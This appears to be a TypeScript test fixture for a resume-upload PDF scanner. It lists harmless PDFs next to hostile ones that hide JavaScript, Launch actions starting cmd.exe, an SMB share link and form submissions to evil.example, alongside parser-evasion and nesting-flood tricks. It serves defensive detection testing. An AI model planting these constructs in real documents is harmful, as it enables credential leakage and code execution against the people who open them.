import type { ResumeNote, ResumeProblem } from '../resume-rules.ts';
import { toObject, toPackedObjects, toPdf, toStream } from './documents.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const SHARE = '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>';
const HOME = '<< /S /URI /URI (https://evil.example) >>';

/** Hides an object in what a careless parser treats as a stream. */
const inStream = (text: string) => toStream(`x\nendstrea\n9 0 obj\n${text}\nendobj\n`);

/** PDFs with texts or names that look like active content. */
export const harmlessPdfs: [what: string, bytes: Buffer, notes?: ResumeNote[]][] = [
  [
    'speaks of /JavaScript in its title',
    toPdf({ extra: toObject('<< /Title (Node /JavaScript Developer) >>') }),
  ],
  [
    'speaks of /JS in brackets inside brackets',
    toPdf({ extra: toObject('<< /Title (a (HTML/JS (x))) >>') }),
  ],
  [
    'has an unpacked page that shows a script',
    toPdf({
      extra: toStream(`BT (${SCRIPT.replaceAll('(', '\\(').replaceAll(')', '\\)')}) Tj ET`),
    }),
  ],
  [
    'has places named JavaScript, JS, AA and Launch',
    toPdf({
      catalog:
        '/Dests << /JavaScript [3 0 R /Fit] /JS << /D [3 0 R /Fit] >> /AA [3 0 R /Fit] /Launch [3 0 R /Fit] /Encrypt [3 0 R /Fit] /XFA << /D [3 0 R /Fit] >> >> ',
    }),
  ],
  [
    'has paragraphs in styles named JavaScript and Launch',
    toPdf({
      extra: toObject('<< /Type /StructElem /S /Launch /P 2 0 R /K [<< /S /JavaScript /K 0 >>] >>'),
    }),
  ],
  [
    'has fonts named JS and AA',
    toPdf({ extra: toObject('<< /Font << /JS 5 0 R /AA 5 0 R >> >>') }),
  ],
  ['has an empty tree of scripts', toPdf({ catalog: '/Names << /JavaScript << /Names [] >> >> ' })],
  ['prints when it is opened', toPdf({ catalog: '/OpenAction << /S /Named /N /Print >> ' })],
  [
    'opens at a page and prints, as two values of one key',
    toPdf({ catalog: '/OpenAction [3 0 R /Fit] /OpenAction << /S /Named /N /Print >> ' }),
  ],
  [
    'opens at a page by an action',
    toPdf({ catalog: '/OpenAction 6 0 R ', extra: toObject('<< /S /GoTo /D [3 0 R /Fit] >>') }),
  ],
  [
    'has a link to a page on the web, followed by a click',
    toPdf({ extra: toObject(`<< /Subtype /Link /A ${HOME} >>`) }),
  ],
  [
    'has a button for a page on the web',
    toPdf({ extra: toObject(`<< /Subtype /Widget /AA << /U ${HOME} >> >>`) }),
  ],
  ['has numbers that are written oddly', toPdf({ extra: toObject('<< /A --5 /B 1e3 >>') })],
  [
    'has the same key twice',
    toPdf({ extra: toObject('<< /Type /Font /Type /Font /Rotate 0 /Rotate 90 >>') }),
  ],
  [
    'has a page named twice',
    toPdf({ extra: `${toObject('<< /Title (first) >>')}${toObject('<< /Title (second) >>')}` }),
  ],
  [
    'has scripts in what is attached, packed',
    toPdf({ extra: toStream('x', '/Type /EmbeddedFile ') }),
    ['attachments'],
  ],
];

/** PDFs with active content, by the way it is hidden. */
export const hostilePdfs: [what: string, bytes: Buffer, problem: ResumeProblem][] = [
  ['runs a script when it is opened', toPdf({ catalog: `/OpenAction ${SCRIPT} ` }), 'active'],
  [
    'runs a script of another object',
    toPdf({ catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >> ', extra: toObject('(x)') }),
    'active',
  ],
  [
    'runs a script in a stream',
    toPdf({ extra: `${toObject('<< /S /JavaScript /JS 7 0 R >>')}${toStream('x')}` }),
    'active',
  ],
  [
    'runs a script whose kind is another object',
    toPdf({ extra: `${toObject('<< /S 7 0 R /JS (x) >>')}${toObject('/JavaScript', 7)}` }),
    'active',
  ],
  [
    'has a tree of scripts',
    toPdf({ catalog: '/Names << /JavaScript << /Names [(a) 9 0 R] >> >> ' }),
    'active',
  ],
  [
    'has a tree of trees of scripts',
    toPdf({ extra: toObject('<< /JavaScript 7 0 R >>') + toObject('<< /Kids [8 0 R] >>', 7) }),
    'active',
  ],
  [
    'runs a script on a page',
    toPdf({ extra: toObject(`<< /Type /Page /AA << /O ${SCRIPT} >> >>`) }),
    'active',
  ],
  [
    'runs a script in a field',
    toPdf({ extra: toObject(`<< /FT /Tx /AA << /K ${SCRIPT} >> >>`) }),
    'active',
  ],
  [
    'runs a script after another action',
    toPdf({ extra: toObject(`<< /S /GoTo /D [3 0 R /Fit] /Next [${SCRIPT}] >>`) }),
    'active',
  ],
  [
    'runs a script in a rendition',
    toPdf({ extra: toObject('<< /S /Rendition /OP 0 /JS (x) >>') }),
    'active',
  ],
  [
    'runs a script in a model',
    toPdf({
      extra: `${toObject('<< /Type /3D /Subtype /U3D /OnInstantiate 7 0 R >>')}${toStream('x')}`,
    }),
    'active',
  ],
  [
    'runs a script of a form',
    toPdf({
      catalog: '/AcroForm << /XFA [(template) 7 0 R] >> ',
      extra: toStream(
        '<template><event><script contentType="application/x-javascript">x</script></event></template>',
      ),
    }),
    'active',
  ],
  [
    'starts a program when it is opened',
    toPdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> ' }),
    'active',
  ],
  [
    'starts a program from a link',
    toPdf({ extra: toObject('<< /Subtype /Link /A << /S /Launch /F (a.exe) >> >>') }),
    'active',
  ],
  [
    'has rich media',
    toPdf({ extra: toObject('<< /Subtype /RichMedia /RichMediaContent << >> >>') }),
    'active',
  ],
  [
    'has rich media under another name',
    toPdf({ extra: toObject('<< /Subtype /Widget /RichMediaSettings << >> >>') }),
    'active',
  ],
  ['signs in at a share when it is opened', toPdf({ catalog: `/OpenAction ${SHARE} ` }), 'active'],
  [
    'signs in at a share when a page is shown',
    toPdf({ extra: toObject(`<< /Type /Page /AA << /O ${SHARE} >> >>`) }),
    'active',
  ],
  [
    'calls home from an object of its own',
    toPdf({ catalog: '/OpenAction 6 0 R ', extra: toObject(HOME) }),
    'active',
  ],
  [
    'calls home after it went to a page',
    toPdf({
      catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage /Next [${HOME}] >> >> `,
    }),
    'active',
  ],
  [
    'sends its form when it is opened',
    toPdf({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >> ' }),
    'active',
  ],
  [
    'has a catalog in its trailer',
    toPdf({ trailer: `/Root << /OpenAction ${SCRIPT} >> ` }),
    'active',
  ],
  [
    'has a trailer of its own with a catalog',
    toPdf({ extra: `trailer\n<< /Root << /OpenAction ${SCRIPT} >> >>\n` }),
    'active',
  ],
  ['has the script in what looks like text', toPdf({ extra: inStream(SCRIPT) }), 'active'],
  [
    'has the script in a string',
    toPdf({ extra: toObject(`<< /Title (\n9 0 obj ${SCRIPT.replaceAll('(', '\\(')}\nendobj) >>`) }),
    'damaged',
  ],
  ['has the script in a comment', toPdf({ extra: `% 9 0 obj ${SCRIPT} endobj\n` }), 'active'],
  [
    'has comments between the numbers of an object',
    toPdf({ catalog: '/OpenAction 9 0 R ', extra: `9%\n0%\nobj ${HOME} endobj\n` }),
    'active',
  ],
  [
    'has a comment that ends at a single CR',
    toPdf({ extra: toObject('<< /S %x\r/JavaScript /JS (x) >>') }),
    'active',
  ],
  [
    'replaces the script by a later object of its number',
    toPdf({ extra: `${toObject(SCRIPT)}${toObject('null')}` }),
    'active',
  ],
  [
    'adds the script in a change',
    Buffer.concat([
      toPdf(),
      Buffer.from(
        `1 0 obj\n<< /Type /Catalog /OpenAction ${SCRIPT} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`,
      ),
    ]),
    'active',
  ],
  [
    'has two kinds of one action',
    toPdf({ extra: toObject('<< /S /URI /S /JavaScript /URI (x) /JS (x) >>') }),
    'active',
  ],
  [
    'has two kinds of one action, the harmless one last',
    toPdf({ extra: toObject('<< /S /Launch /S /URI /URI (x) /F (a.exe) >>') }),
    'active',
  ],
  ['has a key too often', toPdf({ extra: toObject(`<< ${'/A 1 /A 2 '.repeat(9)}>>`) }), 'damaged'],
  [
    'has an object that cannot be parsed around it',
    toPdf({ extra: toObject(`<< /A ~ /OpenAction ${SCRIPT} >>`) }),
    'damaged',
  ],
  [
    'has an object without an end around it',
    toPdf({ extra: `9 0 obj\n<< /A [ ${SCRIPT}\n` }),
    'damaged',
  ],
  [
    'has the script so deep that parsers give up',
    toPdf({ extra: toObject(`${'['.repeat(200_000)}${SCRIPT}`) }),
    'damaged',
  ],
  [
    'has the count of its packed objects elsewhere',
    toPdf({ extra: toPackedObjects(SCRIPT).replace('/N 1', '/N 12 0 R') + toObject('1', 12) }),
    'active',
  ],
  [
    'has two counts of its packed objects',
    toPdf({
      extra:
        toPackedObjects(SCRIPT).replace('/N 1', '/N 12 0 R') +
        toObject('0', 12) +
        toObject('1', 12),
    }),
    'damaged',
  ],
  [
    'has packed objects that stand nowhere',
    toPdf({ extra: toPackedObjects(SCRIPT).replace('/First 4', '/First 400') }),
    'damaged',
  ],
  [
    'has more packed objects than it says where',
    toPdf({ extra: toPackedObjects(SCRIPT).replace('/N 1', '/N 9') }),
    'damaged',
  ],
  [
    'is encrypted in two ways',
    toPdf({
      trailer: '/Encrypt << /Filter /Standard /V 1 >> ',
      extra: 'trailer\n<< /Encrypt << /Filter /Standard /V 2 >> >>\n',
    }),
    'damaged',
  ],
  [
    'is encrypted in a way of its own',
    toPdf({ trailer: '/Encrypt << /Filter /Own >> ' }),
    'damaged',
  ],
  ['never ends its brackets', toPdf({ extra: '9 0 obj\n('.repeat(2000) }), 'damaged'],
  ['is a flood of broken objects', toPdf({ extra: ' 9 0 obj ~'.repeat(2000) }), 'damaged'],
];
